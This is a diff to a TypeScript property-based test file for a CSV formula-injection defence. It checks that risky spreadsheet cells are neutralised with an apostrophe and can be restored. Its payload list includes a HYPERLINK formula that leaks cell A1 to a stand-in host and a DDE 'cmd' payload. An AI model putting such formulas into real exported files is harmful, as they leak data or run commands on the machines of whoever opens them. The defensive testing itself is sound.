@@ -2,7 +2,7 @@ import fc from 'fast-check';
 import { parse } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
 import { describe, expect, it } from 'vitest';
-import { neutraliseCell, safeCast } from './csv-safety.ts';
+import { neutraliseCell, restoreCell, safeCast } from './csv-safety.ts';
 
 const PAYLOADS = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -15,8 +15,18 @@ const PAYLOADS = [
   "=cmd|' /C notepad'!'A1'",
   '-',
   '+',
+  ' =1+1',
+  '\u00a0 =HYPERLINK("http://evil.example")',
+  '\n=1',
+  '\uff1dHYPERLINK("http://evil.example")',
+  '\uff0b1',
+  '\uff20SUM(1)',
+  "'=1+1",
 ];
-const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
+const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
+const SPACE = fc.constantFrom('', ' ', '  ', '\u00a0', '\u3000', '\u2002');
+/** What a spreadsheet could run: a trigger, after spaces or not (or a cell that is a plain number). */
+const runnable = (cell: string) => TRIGGERS.some((t) => cell.replace(/^[ \u00a0\u2000-\u200b\u3000\ufeff]*/, '').startsWith(t)) && !PLAIN_NUMBER.test(cell);
 const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;
 
 describe('neutraliseCell', () => {
@@ -33,24 +43,26 @@ describe('neutraliseCell', () => {
     expect(neutraliseCell('جماعة نصرة الإسلام والمسلمين')).toBe('جماعة نصرة الإسلام والمسلمين');
   });
 
-  it('no cell a spreadsheet would run survives, and nothing else changes', () => {
-    const dangerous = fc.tuple(fc.constantFrom(...TRIGGERS), fc.string()).map(([t, s]) => t + s);
+  it('no cell a spreadsheet would run survives, nothing else changes, and what was written can be read back', () => {
+    const dangerous = fc.tuple(SPACE, fc.constantFrom(...TRIGGERS), fc.string()).map(([sp, t, s]) => sp + t + s);
+    const quoted = fc.oneof(fc.string(), dangerous).map((s) => `'${s}`);
     fc.assert(
-      fc.property(fc.oneof(fc.string(), dangerous, fc.constantFrom(...PAYLOADS)), (cell) => {
+      fc.property(fc.oneof(fc.string(), dangerous, quoted, fc.constantFrom(...PAYLOADS)), (cell) => {
         const out = neutraliseCell(cell);
-        const risky = TRIGGERS.some((t) => cell.startsWith(t)) && !PLAIN_NUMBER.test(cell);
-        expect(out).toBe(risky ? `'${cell}` : cell);
-        expect(TRIGGERS.some((t) => out.startsWith(t)) && !PLAIN_NUMBER.test(out)).toBe(false);
+        expect(out).toBe(runnable(cell) || cell.startsWith("'") ? `'${cell}` : cell);
+        expect(runnable(out)).toBe(false);
+        expect(restoreCell(out)).toBe(cell);
       }),
     );
   });
 
-  it('through csv-stringify and back, every cell is safe', () => {
-    const dangerous = fc.tuple(fc.constantFrom(...TRIGGERS), fc.string()).map(([t, s]) => t + s);
+  it('through csv-stringify and back, every cell is safe and reads back as written', () => {
+    const dangerous = fc.tuple(SPACE, fc.constantFrom(...TRIGGERS), fc.string()).map(([sp, t, s]) => sp + t + s);
     fc.assert(
       fc.property(fc.array(fc.oneof(fc.string(), dangerous), { minLength: 1, maxLength: 6 }), (row) => {
         const [parsed] = parse(stringify([row], { cast: safeCast }), { relax_quotes: true }) as string[][];
-        for (const cell of parsed!) expect(TRIGGERS.some((t) => cell.startsWith(t)) && !PLAIN_NUMBER.test(cell)).toBe(false);
+        for (const cell of parsed!) expect(runnable(cell)).toBe(false);
+        expect(parsed!.map(restoreCell)).toEqual(row);
       }),
     );
   });
